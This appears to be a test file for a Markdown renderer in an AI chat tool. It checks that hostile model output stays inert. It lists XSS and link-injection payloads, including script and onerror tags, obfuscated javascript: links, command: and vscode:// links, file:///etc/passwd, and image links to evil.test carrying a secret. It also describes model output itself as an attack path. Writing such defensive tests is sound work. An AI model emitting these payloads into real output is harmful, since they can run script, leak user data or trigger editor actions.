import "../setup/dom";
import assert from "node:assert/strict";
import { MarkdownPage } from "../setup/markdownPage";

/** What a model can be made to write. None of it may become an element that acts or loads. */
const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "text <img src=x onerror=alert(1)> text",
  "<svg/onload=alert(1)>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<a href='javascript:alert(1)' onclick='alert(1)'>x</a>",
  "<style>*{display:none}</style>",
  "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
  "<form action='https://evil.test'><button>Approve</button></form>",
  "<div>\n\n<script>\nalert(1)\n\n</script>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](java&NewLine;script:alert(1))",
  "[x](<\u0001javascript:alert(1)>)",
  "[x](command:workbench.action.terminal.new)",
  "[x](vscode://agent-chat.mastra-clerk/callback?code=1)",
  "[x](file:///etc/passwd)",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](//evil.test/x)",
  "[x](/relative)",
  "[x](#fragment)",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "![x](https://evil.test/pixel.png?secret=1)",
  "![](https://evil.test/pixel.png)",
  "[![x](https://evil.test/a.png)](javascript:alert(1))",
  "```html\n<script>alert(1)</script>\n```",
  "```<img/src=x/onerror=alert(1)>\ncode\n```",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
  "# <img src=x onerror=alert(1)>",
  '[x](https://a.test "\\"onmouseover=alert(1) x=\\"")',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
];

const allowed = new Set(
  (
    "a blockquote br button code del div em h3 h4 h5 h6 hr input li ol p path pre rect span strong svg table tbody td th " +
    "thead tr ul"
  ).split(" "),
);

describe("hostile Markdown", () => {
  for (const attack of attacks) {
    it(`is harmless: ${JSON.stringify(attack)}`, () => {
      for (const finished of [false, true]) {
        const { root } = new MarkdownPage().draw(attack, finished);
        for (const element of root.querySelectorAll("*")) {
          assert.ok(allowed.has(element.localName), `<${element.localName}> in ${root.innerHTML}`);
          for (const { name } of element.attributes) {
            assert.doesNotMatch(name, /^(on|src|action|formaction|srcdoc)/, root.innerHTML);
          }
        }
        for (const link of root.querySelectorAll("a")) {
          assert.match(link.href, /^(https?|mailto):/, root.innerHTML);
        }
      }
    });
  }

  it("shows raw HTML as the text it was written as", () => {
    assert.equal(new MarkdownPage().draw("a <b>bold</b> word", true).root.textContent, "a <b>bold</b> word");
    assert.equal(new MarkdownPage().draw("<div>\nx\n</div>", true).root.textContent, "<div>\nx\n</div>");
  });

  it("makes a link of a remote picture", () => {
    const { root } = new MarkdownPage().draw("![A map](https://maps.test/m.png)", true);
    assert.equal(root.querySelector("img"), null);
    assert.equal(root.querySelector("a")?.textContent, "A map");
  });
});
